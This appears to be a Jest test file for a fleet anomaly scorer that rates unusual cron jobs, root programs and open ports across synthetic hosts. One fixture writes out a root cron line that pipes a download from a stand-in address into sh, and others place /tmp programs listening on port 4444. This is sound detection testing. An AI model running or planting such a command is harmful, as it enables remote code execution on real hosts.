import { describe, expect, test } from '@jest/globals'
import { assess } from '../../src/assess.ts'
import type { Row } from '../../src/snapshot/snapshot.ts'
import { findingsOf } from '../support/findings.ts'
import { fleet, healthy, host, hostId, QUERIES, query } from '../support/fleets.ts'

type Rows = Record<string, Row[]>

const severities = async (hosts: ReturnType<typeof fleet>) =>
  (await findingsOf(hosts)).map(({ severity }) => severity)

/** Each says one bit: root runs something outside the folders of packages; a port is open to other hosts. */
const addJob = (rows: Rows) => rows.cron!.push({ path: '/etc/cron.d/qtool', command: 'root /opt/qtool/run' })
const addProgram = (rows: Rows) => rows.programs!.push({ path: '/opt/qtool/run', username: 'root' })
const addPort = (rows: Rows) => rows.ports!.push({ protocol: '6', port: '7007', path: '/opt/qtool/run' })
/** Three bits. */
const addScratchJob = (rows: Rows) =>
  rows.cron!.push({ path: '/etc/cron.d/qtool', command: 'root /var/tmp/qtool' })

/** The first `count` of forty hosts, changed. */
const on = (count: number, ...changes: ((rows: Rows) => void)[]) =>
  fleet(40, (index, rows) => {
    if (index < count) for (const change of changes) change(rows)
  })

describe('the constants of the score, one case on each side', () => {
  // The job: 1/4 · 1/2 = 1/8. What is gone: log2(n / 0.75) - 4 bits, and counts from one bit on, which 24 hosts reach.
  test('rows that may have met by chance lose four bits', async () => {
    const rowsTold = async (size: number) => {
      const findings = await findingsOf(
        fleet(size, (index, rows) => {
          if (index !== 7) return
          addJob(rows)
          rows.programs = rows.programs!.filter(({ path }) => path !== '/usr/sbin/nginx')
        })
      )
      expect(findings).toHaveLength(1)
      return findings[0]!.rows.map(({ kind }) => kind)
    }
    expect(await rowsTold(24)).toEqual(['unexpected', 'missing'])
    expect(await rowsTold(23)).toEqual(['unexpected'])
  })

  // Job and program: 1/8 · 1/4 = 1/32, enough for high with two bits said. Program and port: 1/4 · 1/4 = 1/16 is not.
  test('a further table of the same cause adds two bits', async () => {
    expect(await severities(on(2, addJob, addProgram))).toEqual(['high'])
    expect(await severities(on(2, addProgram, addPort))).toEqual(['medium'])
  })

  // Job and program: 1/32 · 16 = 1/2. Job, program and port: 1/128 · 16 = 1/8.
  test('on more than a tenth of the fleet four bits speak against plain rows', async () => {
    expect(await severities(on(5, addJob, addProgram))).toEqual(['low'])
    expect(await severities(on(5, addJob, addProgram, addPort))).toEqual(['medium'])
    expect(await severities(on(4, addJob, addProgram))).toEqual(['high'])
  })

  // A scratch job: 1/4 · 1/8 = 1/32, which is high; times four it is 1/8.
  test('on more than a tenth of the fleet two bits speak against rows that say much', async () => {
    expect(await severities(on(4, addScratchJob))).toEqual(['high'])
    expect(await severities(on(5, addScratchJob))).toEqual(['medium'])
  })

  test('a plain row is explained when three other hosts show its shape', async () => {
    const SETTINGS = query('settings', ['name', 'value'], { sql: 'SELECT name, value FROM augeas_nodes' })
    const told = async (count: number) => {
      const hosts = Array.from({ length: 30 }, (_, index) => {
        const token = (Math.imul(index + 1, 0x9e3779b1) >>> 0).toString(16).padStart(8, '0')
        const settings = index < count ? [{ name: 'token', value: `id-${token}${token}` }] : []
        return host(hostId(index), { ...healthy(index), settings: [{ name: 'a', value: 'b' }, ...settings] })
      })
      const question = {
        queries: [...QUERIES, SETTINGS],
        baseline: null,
        indicators: [],
        today: '2026-11-24'
      }
      const { findings } = await assess(question, async function* () {
        yield* hosts
      })
      return findings.length
    }
    expect(await told(3)).toBe(3)
    expect(await told(4)).toBe(0)
  })
})

describe('causes beside causes', () => {
  const scratch = (index: number) => `/tmp/${'abcdefgh'[index]}word`
  const beside = (count: number) =>
    fleet(24, (index, rows) => {
      if (index < count) {
        rows.programs!.push({ path: scratch(index), username: 'root' })
        rows.ports!.push({ protocol: '6', port: '4444', path: scratch(index) })
      }
      if (index === 20)
        rows.cron!.push({ path: '/etc/cron.d/z', command: 'root curl -s http://203.0.113.9/z | sh' })
    })

  test('in different tables they do not hide one another, though more hosts have one than are rare', async () => {
    const findings = await findingsOf(beside(3))
    expect(findings.map(({ severity }) => severity)).toEqual(['high', 'high', 'high', 'high'])
  })

  test('where more hosts than are rare have one in the same table, it is what this fleet does; others stay high', async () => {
    const findings = await findingsOf(beside(5))
    expect(findings.filter(({ hosts }) => hosts.includes(hostId(20)))).toMatchObject([{ severity: 'high' }])
    expect(findings.filter(({ hosts }) => hosts.includes(hostId(0)))).not.toContainEqual(
      expect.objectContaining({ severity: 'high' })
    )
  })
})
